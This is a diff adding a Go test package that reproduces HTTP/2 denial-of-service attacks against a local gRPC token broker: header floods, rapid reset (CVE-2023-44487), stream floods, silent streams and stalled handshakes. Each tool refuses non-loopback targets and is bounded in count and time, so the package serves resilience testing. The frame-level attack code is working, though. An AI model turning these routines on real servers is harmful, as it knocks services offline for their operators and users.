@@ -1,0 +1,438 @@
+// Package attacktest holds the tools that reproduce, against a real
+// tokenbroker on loopback, the front-door attacks of issue 23: header
+// floods, HTTP/2 rapid reset (CVE-2023-44487), connections parked in their
+// handshake, and streams that never send their request. They speak HTTP/2
+// frame by frame (golang.org/x/net/http2), as an attacker would, not through
+// a gRPC client that would behave.
+//
+// Every tool is bounded in count and in time (its context), refuses any
+// address that is not loopback, and closes what it opened before it returns
+// (Hold returns its connections for the caller to close). They are for tests
+// and benchmarks only.
+package attacktest
+
+import (
+	"bytes"
+	"context"
+	"crypto/tls"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// Target is the broker to attack.
+type Target struct {
+	// Addr is the gRPC address; it must be a loopback address.
+	Addr string
+	// TLS is the client TLS configuration (certificate, roots). NextProtos
+	// is set to h2.
+	TLS *tls.Config
+	// Source, when set, is the loopback IP address to connect from (Linux
+	// answers on all of 127.0.0.0/8): another source address.
+	Source string
+}
+
+func (t Target) dialer() *net.Dialer {
+	d := &net.Dialer{Timeout: 10 * time.Second}
+	if t.Source != "" {
+		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(t.Source)}
+	}
+	return d
+}
+
+// ErrNotLoopback refuses a target that is not on this host.
+var ErrNotLoopback = errors.New("attacktest: only loopback targets")
+
+func (t Target) check() error {
+	host, _, err := net.SplitHostPort(t.Addr)
+	if err != nil {
+		return fmt.Errorf("attacktest: %w", err)
+	}
+	if ip := net.ParseIP(host); host != "localhost" && (ip == nil || !ip.IsLoopback()) {
+		return ErrNotLoopback
+	}
+	if ip := net.ParseIP(t.Source); t.Source != "" && (ip == nil || !ip.IsLoopback()) {
+		return ErrNotLoopback
+	}
+	return nil
+}
+
+// GoAway is a GOAWAY frame the server sent.
+type GoAway struct {
+	Code  http2.ErrCode
+	Debug string
+	// After is the time from the attack's first frame to the GOAWAY.
+	After time.Duration
+}
+
+// conn is one HTTP/2 connection driven frame by frame.
+type conn struct {
+	tc     *tls.Conn
+	fr     *http2.Framer
+	wmu    sync.Mutex
+	start  time.Time
+	goAway chan GoAway // receives the first GOAWAY
+	closed chan struct{}
+	resets sync.Map // stream ID → http2.ErrCode of a RST_STREAM from the server
+	ends   sync.Map // stream ID → the grpc-status of the server's trailers
+}
+
+// dial opens a TLS connection to t, sends the client preface and SETTINGS,
+// and reads the server's frames in the background.
+func dial(ctx context.Context, t Target) (*conn, error) {
+	if err := t.check(); err != nil {
+		return nil, err
+	}
+	cfg := t.TLS.Clone()
+	cfg.NextProtos = []string{"h2"}
+	d := tls.Dialer{NetDialer: t.dialer(), Config: cfg}
+	nc, err := d.DialContext(ctx, "tcp", t.Addr)
+	if err != nil {
+		return nil, err
+	}
+	c := &conn{tc: nc.(*tls.Conn), goAway: make(chan GoAway, 1), closed: make(chan struct{}), start: time.Now()}
+	c.fr = http2.NewFramer(c.tc, c.tc)
+	c.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
+	if _, err := io.WriteString(c.tc, http2.ClientPreface); err != nil {
+		c.tc.Close()
+		return nil, err
+	}
+	if err := c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20}); err != nil {
+		c.tc.Close()
+		return nil, err
+	}
+	go c.read()
+	return c, nil
+}
+
+// read consumes the server's frames, acknowledging SETTINGS and PING and
+// keeping GOAWAY, RST_STREAM and trailers.
+func (c *conn) read() {
+	defer close(c.closed)
+	for {
+		f, err := c.fr.ReadFrame()
+		if err != nil {
+			return
+		}
+		switch f := f.(type) {
+		case *http2.SettingsFrame:
+			if !f.IsAck() {
+				c.write(func() error { return c.fr.WriteSettingsAck() })
+			}
+		case *http2.PingFrame:
+			if !f.IsAck() {
+				c.write(func() error { return c.fr.WritePing(true, f.Data) })
+			}
+		case *http2.GoAwayFrame:
+			select {
+			case c.goAway <- GoAway{Code: f.ErrCode, Debug: string(f.DebugData()), After: time.Since(c.start)}:
+			default:
+			}
+		case *http2.RSTStreamFrame:
+			c.resets.Store(f.StreamID, f.ErrCode)
+		case *http2.MetaHeadersFrame:
+			if st := f.PseudoValue("status"); st != "" && st != "200" {
+				c.ends.Store(f.StreamID, "http "+st)
+			}
+			for _, hf := range f.RegularFields() {
+				if hf.Name == "grpc-status" {
+					c.ends.Store(f.StreamID, hf.Value)
+				}
+			}
+		}
+	}
+}
+
+func (c *conn) write(f func() error) error {
+	c.wmu.Lock()
+	defer c.wmu.Unlock()
+	return f()
+}
+
+func (c *conn) close() {
+	_ = c.tc.Close()
+	<-c.closed
+}
+
+// requestHeaders encodes a gRPC request's headers for method, with extra
+// filler fields of about filler bytes in all.
+func requestHeaders(authority, method string, filler int) []byte {
+	var buf bytes.Buffer
+	enc := hpack.NewEncoder(&buf)
+	enc.SetMaxDynamicTableSizeLimit(0)
+	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"},
+		{Name: ":path", Value: method}, {Name: ":authority", Value: authority},
+		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"}} {
+		_ = enc.WriteField(f)
+	}
+	value := strings.Repeat("x", 4000)
+	for i := 0; filler > 0; i++ {
+		_ = enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-filler-%d", i), Value: value, Sensitive: true})
+		filler -= len(value) + 32
+	}
+	return buf.Bytes()
+}
+
+// writeHeaders sends a header block on stream id, split into HEADERS and
+// CONTINUATION frames of at most 16 KiB. It returns how much of the block
+// was written before an error.
+func (c *conn) writeHeaders(id uint32, block []byte, endStream bool) (int, error) {
+	written := 0
+	err := c.write(func() error {
+		const max = 16 << 10
+		first := block[:min(max, len(block))]
+		rest := block[len(first):]
+		if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first,
+			EndHeaders: len(rest) == 0, EndStream: endStream}); err != nil {
+			return err
+		}
+		written += len(first)
+		for len(rest) > 0 {
+			chunk := rest[:min(max, len(rest))]
+			rest = rest[len(chunk):]
+			if err := c.fr.WriteContinuation(id, len(rest) == 0, chunk); err != nil {
+				return err
+			}
+			written += len(chunk)
+		}
+		return nil
+	})
+	return written, err
+}
+
+// HeaderFloodResult is what HeaderFlood did.
+type HeaderFloodResult struct {
+	Streams     int   // streams whose headers were sent (completely or until the server cut them)
+	Connections int   // connections used: the server may close one mid-flood
+	BytesSent   int64 // header block bytes written (the server may stop reading before the rest)
+	Cut         int   // streams whose headers could not all be written: the server closed the connection
+	LastError   string
+}
+
+// HeaderFlood opens streams (at most 1,000) on one connection, each with a
+// header list of about headerBytes (at most 16 MiB) and no request message,
+// and leaves them open. When the server closes the connection it goes on,
+// on a new one. It stops at ctx's end.
+func HeaderFlood(ctx context.Context, t Target, streams, headerBytes int) (HeaderFloodResult, error) {
+	var res HeaderFloodResult
+	if streams > 1000 || headerBytes > 16<<20 {
+		return res, errors.New("attacktest: HeaderFlood is bounded to 1,000 streams of 16 MiB")
+	}
+	block := requestHeaders(strings.TrimSpace(t.Addr), "/tokenbroker.v1.TokenBroker/GetToken", headerBytes)
+	var c *conn
+	defer func() {
+		if c != nil {
+			c.close()
+		}
+	}()
+	id := uint32(1)
+	for res.Streams < streams && ctx.Err() == nil {
+		if c == nil {
+			var err error
+			if c, err = dial(ctx, t); err != nil {
+				return res, err
+			}
+			res.Connections++
+			id = 1
+			cc := c
+			stop := context.AfterFunc(ctx, func() { _ = cc.tc.SetDeadline(time.Now()) })
+			defer stop()
+		}
+		n, err := c.writeHeaders(id, block, false)
+		res.Streams++
+		res.BytesSent += int64(n)
+		if err != nil {
+			res.Cut++
+			if res.LastError == "" || res.Cut == 1 {
+				res.LastError = err.Error()
+			}
+			c.close()
+			c = nil
+			continue
+		}
+		id += 2
+	}
+	return res, ctx.Err()
+}
+
+// RapidResetResult is what RapidReset did.
+type RapidResetResult struct {
+	Pairs  int     // HEADERS + RST_STREAM pairs sent
+	GoAway *GoAway // the server's GOAWAY, if one came
+	Took   time.Duration
+}
+
+// RapidReset sends up to pairs (at most 1,000,000) HEADERS + RST_STREAM
+// pairs on one connection as fast as it can (CVE-2023-44487), until the
+// server sends GOAWAY or closes the connection, or ctx ends.
+func RapidReset(ctx context.Context, t Target, pairs int) (RapidResetResult, error) {
+	return flood(ctx, t, pairs, true)
+}
+
+// StreamFlood opens up to n (at most 1,000,000) streams on one connection
+// as fast as it can, each a complete Health/Check call without a message
+// (HEADERS with END_STREAM), never cancelling one, until the server sends
+// GOAWAY or closes the connection, or ctx ends. Pairs counts the streams.
+func StreamFlood(ctx context.Context, t Target, n int) (RapidResetResult, error) {
+	return flood(ctx, t, n, false)
+}
+
+func flood(ctx context.Context, t Target, pairs int, reset bool) (RapidResetResult, error) {
+	var res RapidResetResult
+	if pairs > 1_000_000 {
+		return res, errors.New("attacktest: floods are bounded to 1,000,000 streams")
+	}
+	c, err := dial(ctx, t)
+	if err != nil {
+		return res, err
+	}
+	defer c.close()
+	stop := context.AfterFunc(ctx, func() { _ = c.tc.SetDeadline(time.Now()) })
+	defer stop()
+	block := requestHeaders(t.Addr, "/grpc.health.v1.Health/Check", 0)
+	start := time.Now()
+	c.start = start
+	id := uint32(1)
+	for ; res.Pairs < pairs && ctx.Err() == nil; res.Pairs++ {
+		select {
+		case g := <-c.goAway:
+			res.GoAway, res.Took = &g, time.Since(start)
+			return res, nil
+		case <-c.closed:
+			res.Took = time.Since(start)
+			return res, nil
+		default:
+		}
+		err := c.write(func() error {
+			if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: !reset}); err != nil {
+				return err
+			}
+			if !reset {
+				return nil
+			}
+			return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
+		})
+		if err != nil {
+			break
+		}
+		id += 2
+	}
+	res.Took = time.Since(start)
+	select { // a GOAWAY may be on its way as the connection closed
+	case g := <-c.goAway:
+		res.GoAway = &g
+	case <-time.After(time.Second):
+	}
+	return res, nil
+}
+
+// SilentStreams opens n (at most 1,000) streams for method on one
+// connection with ordinary headers and never sends their request message;
+// it waits until ctx ends or every stream has ended, and returns how each
+// ended: the grpc-status of its trailers, "rst CODE" for a reset, or ""
+// while it is still open.
+func SilentStreams(ctx context.Context, t Target, method string, n int) ([]string, error) {
+	if n > 1000 {
+		return nil, errors.New("attacktest: SilentStreams is bounded to 1,000 streams")
+	}
+	c, err := dial(ctx, t)
+	if err != nil {
+		return nil, err
+	}
+	defer c.close()
+	block := requestHeaders(t.Addr, method, 0)
+	for i := range n {
+		if _, err := c.writeHeaders(uint32(2*i+1), block, false); err != nil {
+			return nil, err
+		}
+	}
+	ended := func() []string {
+		out := make([]string, n)
+		for i := range n {
+			id := uint32(2*i + 1)
+			if v, ok := c.ends.Load(id); ok {
+				out[i] = v.(string)
+			} else if v, ok := c.resets.Load(id); ok {
+				out[i] = "rst " + v.(http2.ErrCode).String()
+			}
+		}
+		return out
+	}
+	tick := time.NewTicker(50 * time.Millisecond)
+	defer tick.Stop()
+	for {
+		out := ended()
+		open := 0
+		for _, s := range out {
+			if s == "" {
+				open++
+			}
+		}
+		if open == 0 {
+			return out, nil
+		}
+		select {
+		case <-ctx.Done():
+			return out, nil
+		case <-c.closed:
+			return ended(), nil
+		case <-tick.C:
+		}
+	}
+}
+
+// Hold opens up to n (at most 20,000) TCP connections to t and sends
+// nothing on them, as a client stalling in its TLS handshake. It returns the
+// connections the server did not close within settle; the caller closes
+// them. refused counts those it closed (or that could not be opened).
+func Hold(ctx context.Context, t Target, n int, settle time.Duration) (held []net.Conn, refused int, err error) {
+	if err := t.check(); err != nil {
+		return nil, 0, err
+	}
+	if n > 20000 {
+		return nil, 0, errors.New("attacktest: Hold is bounded to 20,000 connections")
+	}
+	d := t.dialer()
+	var open []net.Conn
+	for range n {
+		if ctx.Err() != nil {
+			break
+		}
+		c, err := d.DialContext(ctx, "tcp", t.Addr)
+		if err != nil {
+			refused++
+			continue
+		}
+		open = append(open, c)
+	}
+	// A connection the server closed reads EOF (or a reset) at once.
+	deadline := time.Now().Add(settle)
+	var mu sync.Mutex
+	var wg sync.WaitGroup
+	for _, c := range open {
+		wg.Go(func() {
+			_ = c.SetReadDeadline(deadline)
+			var b [1]byte
+			_, err := c.Read(b[:])
+			var ne net.Error
+			mu.Lock()
+			defer mu.Unlock()
+			if errors.As(err, &ne) && ne.Timeout() {
+				_ = c.SetReadDeadline(time.Time{})
+				held = append(held, c)
+				return
+			}
+			refused++
+			_ = c.Close()
+		})
+	}
+	wg.Wait()
+	return held, refused, nil
+}
